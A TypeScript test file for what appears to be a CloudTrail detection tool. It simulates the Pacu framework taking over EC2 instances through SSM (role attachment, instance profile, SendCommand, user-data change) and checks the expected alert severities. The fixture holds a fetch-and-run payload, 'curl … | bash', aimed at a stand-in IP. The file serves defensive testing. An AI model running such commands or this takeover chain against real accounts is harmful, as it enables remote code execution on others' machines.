import { user } from '../../scripts/examples/aws-callers'
import { ACCOUNT, instance } from '../../scripts/examples/ids'
import { newStory } from '../../scripts/examples/story'
import { expectGolden, HOSTING, mailAbout, scanStory } from './scenario'

const pacu = user('ci-user', {
  ip: HOSTING,
  userAgent: 'Boto3/1.34.0 md/Botocore#1.34.0 Pacu-Session-00000000-0000-0000-0000-000000000001',
})

/**
 * systemsmanager__rce_ec2: a role for the machine, waiting for its agent, then a command to
 * which every failure is welcome.
 */
const story = newStory()
const { cloudTrail, trail } = story
trail.push(
  cloudTrail.call('2026-03-02T10:00:00.000Z', pacu, 'iam:AttachRolePolicy', {
    roleName: 'SSM',
    policyArn: 'arn:aws:iam::aws:policy/service-role/AmazonEC2RoleforSSM',
  }),
)
trail.push(
  cloudTrail.call('2026-03-02T10:00:05.000Z', pacu, 'iam:CreateInstanceProfile', { instanceProfileName: 'SSM' }),
)
trail.push(
  cloudTrail.call('2026-03-02T10:00:06.000Z', pacu, 'iam:AddRoleToInstanceProfile', {
    instanceProfileName: 'SSM',
    roleName: 'SSM',
  }),
)
trail.push(
  cloudTrail.call('2026-03-02T10:00:20.000Z', pacu, 'ec2:AssociateIamInstanceProfile', {
    AssociateIamInstanceProfileRequest: { InstanceId: instance(1), IamInstanceProfile: { Name: 'SSM' } },
  }),
)
for (const second of ['30', '60'])
  trail.push(
    cloudTrail.call(
      new Date(Date.UTC(2026, 2, 2, 10, 1, Number(second))).toISOString(),
      pacu,
      'ssm:DescribeInstanceInformation',
      {},
    ),
  )
trail.push(
  cloudTrail.denied(
    '2026-03-02T10:04:00.000Z',
    pacu,
    'ssm:SendCommand',
    `arn:aws:ec2:eu-west-1:${ACCOUNT}:instance/${instance(2)}`,
  ),
)
story.send('2026-03-02T10:05:00.000Z', pacu, { instances: [instance(1)], maxErrors: '100%' }, [
  'curl -fsS http://203.0.113.9/p | bash',
])
trail.push(
  ...cloudTrail.changeUserData(
    ['2026-03-02T10:20:00.000Z', '2026-03-02T10:21:00.000Z', '2026-03-02T10:21:30.000Z'],
    pacu,
    instance(3),
  ),
)

describe('Pacu', () => {
  it('is seen from the denied try to the boot script', async () => {
    const { findings, alerts } = await scanStory(story)
    expect(findings).toEqual({
      '02 10:00:00 iam:AttachRolePolicy': { 'anonymised-source': 'low' },
      '02 10:04:00 ssm:SendCommand': { 'first-seen-caller': 'medium' },
      '02 10:05:00 ssm:SendCommand': {
        'first-seen-caller': 'medium',
        'first-seen-caller-on-target': 'low',
        'broad-target-selector': 'medium',
        'suspicious-command': 'high',
      },
      '02 10:21:00 ec2:ModifyInstanceAttribute': {
        'first-seen-caller': 'medium',
        'first-seen-caller-on-target': 'low',
      },
    })
    expectGolden('pacu', mailAbout(alerts, 'broad-target-selector'))
  })
})
